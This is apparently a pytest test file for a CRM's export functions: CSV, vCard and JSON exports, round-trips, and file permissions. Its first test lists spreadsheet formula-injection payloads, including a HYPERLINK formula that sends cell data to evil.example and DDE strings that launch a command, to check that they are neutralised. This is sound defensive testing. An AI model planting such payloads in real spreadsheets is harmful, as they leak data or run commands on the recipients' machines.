"""Exports: CSV without formula injection, vCard that an independent parser reads back,
every table as JSON; files private and written whole."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import date
from pathlib import Path

import pytest
import vobject

from deskcrm.db import migrate
from deskcrm.errors import DeskCrmError
from deskcrm.services.contacts.companies import CompanyInput
from deskcrm.services.contacts.contacts import ContactInput
from deskcrm.services.demo.demo import generate_demo
from deskcrm.services.import_export.exporting import (
    contact_csv_header,
    export_all_json,
    export_contacts_csv,
    export_contacts_vcard,
    export_deals_csv,
    neutralise,
)
from deskcrm.services.pipeline.deals import DealInput
from tests.conftest import NOW


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://x")',
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "+49 30 1+cmd|' /C calc'!A0",
        "+1+1",
        "+SUM(A1)",
        "+49 (30 1234",
        "-1+1",
        "-5",
        "--04-22+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\t+49 30 1234567",
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "+49 170 1234567",
        "+4917012345678",
        "+1 (555) 123-4567",
        "+44.20.7946.0018",
        "+49 30 1234567 ext. 12",
        "+49 30 1234567 x12",
        "+49 30 1234567#3",
        "--04-22",
        "--0229",
        "1990-02-28",
    ],
)
def test_phone_numbers_and_dates_are_written_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_ordinary_cells_are_left_alone() -> None:
    assert neutralise("Anna") == "Anna" and neutralise("") == "" and neutralise("5-3") == "5-3"


def _read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_contacts_csv_has_every_field_and_no_live_formulas(db, services, tmp_path: Path) -> None:
    services.contacts.create(
        ContactInput(
            first_name='=HYPERLINK("http://x")',
            last_name="Müller",
            emails=["a@example.com", "b@example.com"],
            phones=["030 1234567"],
            company_name="Kaffee Verde",
            tags=["VIP", "Local"],
            birthday=date(1990, 2, 28),
            notes="line one\nline two",
            address="Hauptstr. 1",
            postal_code="10115",
            city="Berlin",
            country="Germany",
        )
    )
    path = tmp_path / "contacts.csv"
    assert export_contacts_csv(db, path) == 2  # the person and their company
    row, company = _read_csv(path)
    assert company["Company"] == "Kaffee Verde" and company["First Name"] == ""
    assert row["First Name"] == """'=HYPERLINK("http://x")"""
    assert (row["E-mail 1 - Value"], row["E-mail 2 - Value"]) == ("a@example.com", "b@example.com")
    assert row["Phone 1 - Value"] == "+49 30 1234567"  # a phone: no apostrophe
    assert row["Company"] == "Kaffee Verde" and row["Tags"] == "Local; VIP"
    assert (row["Address 1 - Street"], row["Address 1 - City"]) == ("Hauptstr. 1", "Berlin")
    assert (row["Address 1 - Postal Code"], row["Address 1 - Country"]) == ("10115", "Germany")
    assert row["Birthday"] == "1990-02-28" and row["Notes"] == "line one\nline two"
    assert row["Lifecycle"] == "lead" and row["UID"].startswith("urn:uuid:")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_contact_csv_has_as_many_numbered_columns_as_the_fullest_contact(
    db, services, tmp_path: Path
) -> None:
    services.contacts.create(
        ContactInput(first_name="Ann", emails=[f"ann{i}@example.com" for i in range(4)])
    )
    services.contacts.create(ContactInput(first_name="Ben", phones=["+49 30 1", "+49 30 2"]))
    path = tmp_path / "contacts.csv"
    export_contacts_csv(db, path)
    header = next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert header == contact_csv_header(emails=4, phones=2, addresses=1, websites=1, unparsed=0)
    assert "E-mail 4 - Value" in header and "E-mail 5 - Value" not in header
    rows = {r["First Name"]: r for r in _read_csv(path)}
    assert rows["Ann"]["E-mail 4 - Value"] == "ann3@example.com"
    assert rows["Ben"]["E-mail 1 - Value"] == "" and rows["Ben"]["Phone 2 - Value"] != ""


def test_contact_csv_header_names_every_group_in_order() -> None:
    header = contact_csv_header(emails=1, phones=1, addresses=2, websites=1, unparsed=1)
    assert header[:10] == [
        "First Name",
        "Middle Name",
        "Last Name",
        "Name Prefix",
        "Name Suffix",
        "Nickname",
        "Display Name",
        "Company",
        "Department",
        "Job Title",
    ]
    assert header[10:14] == [
        "E-mail 1 - Label",
        "E-mail 1 - Value",
        "Phone 1 - Label",
        "Phone 1 - Value",
    ]
    assert header[14:22] == [
        "Address 1 - Label",
        "Address 1 - Street",
        "Address 1 - Extended Address",
        "Address 1 - PO Box",
        "Address 1 - City",
        "Address 1 - Region",
        "Address 1 - Postal Code",
        "Address 1 - Country",
    ]
    assert header[22] == "Address 2 - Label" and header[30:32] == [
        "Website 1 - Label",
        "Website 1 - Value",
    ]
    assert header[32:] == [
        "Birthday",
        "Anniversary",
        "UID",
        "Tags",
        "Lifecycle",
        "Source",
        "Follow-up Days",
        "Notes",
        "Unparsed 1 - Field",
        "Unparsed 1 - Value",
        "Unparsed 1 - Reason",
        "Unparsed 1 - Origin",
        "Created",
    ]


def test_deals_csv_writes_amounts_as_plain_numbers(db, services, tmp_path: Path) -> None:
    stage = services.pipeline.pipeline(1).open_stages[0].id
    services.deals.create(
        DealInput(title="@risk", pipeline_id=1, stage_id=stage, value_minor=123456, currency="EUR")
    )
    services.deals.create(
        DealInput(title="Yen deal", pipeline_id=1, stage_id=stage, value_minor=5000, currency="JPY")
    )
    path = tmp_path / "deals.csv"
    assert export_deals_csv(db, path) == 2
    rows = {r["Currency"]: r for r in _read_csv(path)}
    assert rows["EUR"]["Title"] == "'@risk" and rows["EUR"]["Value"] == "1234.56"
    assert rows["JPY"]["Value"] == "5000" and rows["EUR"]["Stage"] == "Lead"


def test_vcards_round_trip_through_vobject(db, services, tmp_path: Path) -> None:
    services.contacts.create(
        ContactInput(
            first_name="Łukasz",
            last_name="Ørsted; Jr.",
            emails=["l@example.com", "x@example.com"],
            phones=["+44 20 7946 0018"],
            company_name="Nordlicht, AG",
            title="CEO",
            birthday=date(1985, 7, 1),
            tags=["VIP", "Trade fair"],
            notes="Likes tea\nand cake",
            address="Hauptstr. 1",
            postal_code="10115",
            city="Berlin",
            country="Germany",
        )
    )
    path = tmp_path / "contacts.vcf"
    assert export_contacts_vcard(db, path) == 2  # the person and their company
    card, company = list(vobject.readComponents(path.read_text(encoding="utf-8")))
    assert company.kind.value == "org" and company.org.value == ["Nordlicht, AG"]
    assert card.version.value == "4.0" and card.uid.value.startswith("urn:uuid:")
    assert card.fn.value == "Łukasz Ørsted; Jr."
    assert [e.value for e in card.email_list] == ["l@example.com", "x@example.com"]
    assert card.tel.value == "tel:+442079460018" and card.tel.params["VALUE"] == ["uri"]
    assert card.org.value == ["Nordlicht, AG"]
    assert card.bday.value == "19850701"
    assert sorted(card.categories.value) == ["Trade fair", "VIP"]
    assert card.note.value == "Likes tea\nand cake"
    assert card.adr.value.city == "Berlin" and card.adr.value.code == "10115"
    assert card.contents["x-deskcrm-lifecycle"][0].value == "lead"
    # Its N, read part by part (vobject reads a 4.0 N as 3.0's five parts).
    assert card.n.value.family == "Ørsted; Jr." and card.n.value.given == "Łukasz"


def test_a_reexport_gives_every_contact_the_same_uid(db, services, tmp_path: Path) -> None:
    services.contacts.create(ContactInput(first_name="Ann"))
    services.contacts.create(ContactInput(first_name="Ben"))
    first, second = tmp_path / "1.vcf", tmp_path / "2.vcf"
    export_contacts_vcard(db, first)
    export_contacts_vcard(db, second)

    def uids(path: Path) -> list[str]:
        return [c.uid.value for c in vobject.readComponents(path.read_text(encoding="utf-8"))]

    assert uids(first) == uids(second) and len(set(uids(first))) == 2


def test_json_export_holds_every_table(db, tmp_path: Path) -> None:
    generate_demo(db, contacts=40, seed=2, now=NOW)
    path = tmp_path / "all.json"
    counts = export_all_json(db, path, now=NOW)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert (
        document["format"] == "deskcrm-export"
        and document["schema_revision"] == migrate.HEAD_REVISION
    )
    assert set(document["tables"]) >= {
        "contact",
        "company",
        "deal",
        "task",
        "purchase",
        "interaction",
        "pipeline",
        "stage",
        "tag",
        "contact_tag",
        "deal_stage_event",
    }
    assert counts["contact"] == 40 == len(document["tables"]["contact"])
    assert isinstance(document["tables"]["purchase"][0]["amount_minor"], int)


def test_an_unwritable_export_leaves_nothing(db, tmp_path: Path) -> None:
    with pytest.raises(DeskCrmError, match="cannot write"):
        export_contacts_csv(db, tmp_path / "no" / "contacts.csv")


def test_export_all_then_import_all_gives_an_identical_database(db, tmp_path: Path) -> None:
    from deskcrm.app import build_services
    from deskcrm.db.opening import open_database
    from deskcrm.services.import_export.exporting import TABLE_ORDER, import_all_json

    generate_demo(db, contacts=120, seed=5, now=NOW)
    services = build_services(db)
    services.duplicates.mark_not_duplicates(1, 2)
    services.settings.save(services.settings.load())
    # Mail read from a mailbox: a message to one of the demo's people.
    people = map(services.contacts.get, range(1, 120))
    address = next(c.data.emails[0] for c in people if c.data.emails)
    mail = tmp_path / "one.eml"
    mail.write_bytes(
        f"From: {address}\nTo: me@shop.test\nSubject: Hello\nMessage-ID: <a@b>\n"
        "Date: Mon, 01 Jun 2026 10:00:00 +0000\n\nHi there\n".encode()
    )
    assert services.mail.import_mail(mail).interactions == 1
    first = tmp_path / "first.json"
    export_all_json(db, first, now=NOW)
    other = open_database(tmp_path / "other.sqlite3")
    counts = import_all_json(other, first)
    assert counts["contact"] == 120
    assert [t for t in TABLE_ORDER if not counts[t]] == []  # every table has rows to carry
    second = tmp_path / "second.json"
    export_all_json(other, second, now=NOW)
    assert json.loads(first.read_text())["tables"] == json.loads(second.read_text())["tables"]

    assert build_services(other).contacts.search("a", limit=3)  # the search index was rebuilt
    with pytest.raises(DeskCrmError, match="already holds"):
        import_all_json(other, first)
    other.close()


def test_import_all_refuses_what_is_not_a_deskcrm_export(db, tmp_path: Path) -> None:
    from deskcrm.services.import_export.exporting import import_all_json

    bad = tmp_path / "bad.json"
    cases = [
        ("{nope", "not a DeskCRM export"),
        ('{"format": "x"}', "not a DeskCRM export"),
        (
            '{"format": "deskcrm-export", "format_version": 1, "schema_revision": "0001"}',
            "schema 0001",
        ),
    ]
    for content, message in cases:
        bad.write_text(content)
        with pytest.raises(DeskCrmError, match=message):
            import_all_json(db, bad)


def test_contacts_csv_writes_phones_and_year_less_birthdays_without_an_apostrophe(
    db, services, tmp_path: Path
) -> None:
    services.contacts.create(
        ContactInput(
            first_name="-1+1",
            last_name="Year-less",
            phones=["+49 170 1234567"],
            birthday=date(2000, 4, 22),
            birthday_year_known=False,
        )
    )
    path = tmp_path / "contacts.csv"
    export_contacts_csv(db, path)
    (row,) = _read_csv(path)
    assert row["Phone 1 - Value"] == "+49 170 1234567"
    assert row["Birthday"] == "--04-22"
    assert row["First Name"] == "'-1+1"  # still neutralised: not a phone, not a date


FULL_COMPANY = CompanyInput(
    name="Nordlicht, AG",
    website="https://nordlicht.example",
    email="info@nordlicht.example",
    phone="+49 30 1234567",
    address="Hauptstr. 1\nHinterhaus",
    city="Berlin",
    country="Germany",
    notes="Supplier; since 2019\nPays late",
)


def test_every_company_is_a_kind_org_card_with_its_fields(db, services, tmp_path: Path) -> None:
    services.companies.create(FULL_COMPANY)
    services.companies.create(CompanyInput(name="Bare Co"))
    trashed = services.companies.create(CompanyInput(name="Gone Co")).id
    services.companies.delete([trashed])
    first, second = tmp_path / "1.vcf", tmp_path / "2.vcf"
    assert export_contacts_vcard(db, first) == 2  # the trashed company is not exported
    export_contacts_vcard(db, second)
    bare, full = list(vobject.readComponents(first.read_text(encoding="utf-8")))
    assert bare.fn.value == "Bare Co" and not hasattr(bare, "email")
    assert full.kind.value == "org" and not hasattr(full, "n")
    assert full.fn.value == "Nordlicht, AG" and full.org.value == ["Nordlicht, AG"]
    assert full.email.value == "info@nordlicht.example"
    assert full.tel.value == "tel:+49301234567" and full.tel.params["VALUE"] == ["uri"]
    assert full.url.value == "https://nordlicht.example"
    assert full.adr.value.street == "Hauptstr. 1\nHinterhaus"
    assert (full.adr.value.city, full.adr.value.country) == ("Berlin", "Germany")
    assert full.note.value == "Supplier; since 2019\nPays late"
    # A UID of its own, the same on every export.
    uids = [c.uid.value for c in vobject.readComponents(second.read_text(encoding="utf-8"))]
    assert uids == [bare.uid.value, full.uid.value] and uids[0] != uids[1]


def test_every_company_is_a_csv_row_with_only_company_fields(db, services, tmp_path) -> None:
    services.companies.create(FULL_COMPANY)
    path = tmp_path / "contacts.csv"
    assert export_contacts_csv(db, path) == 1
    (row,) = _read_csv(path)
    filled = {column: value for column, value in row.items() if value}
    assert filled.pop("UID").startswith("urn:uuid:") and filled.pop("Created")
    assert filled == {
        "Company": "Nordlicht, AG",
        "E-mail 1 - Value": "info@nordlicht.example",
        "Phone 1 - Value": "+49 30 1234567",
        "Address 1 - Street": "Hauptstr. 1\nHinterhaus",
        "Address 1 - City": "Berlin",
        "Address 1 - Country": "Germany",
        "Website 1 - Value": "https://nordlicht.example",
        "Notes": "Supplier; since 2019\nPays late",
    }
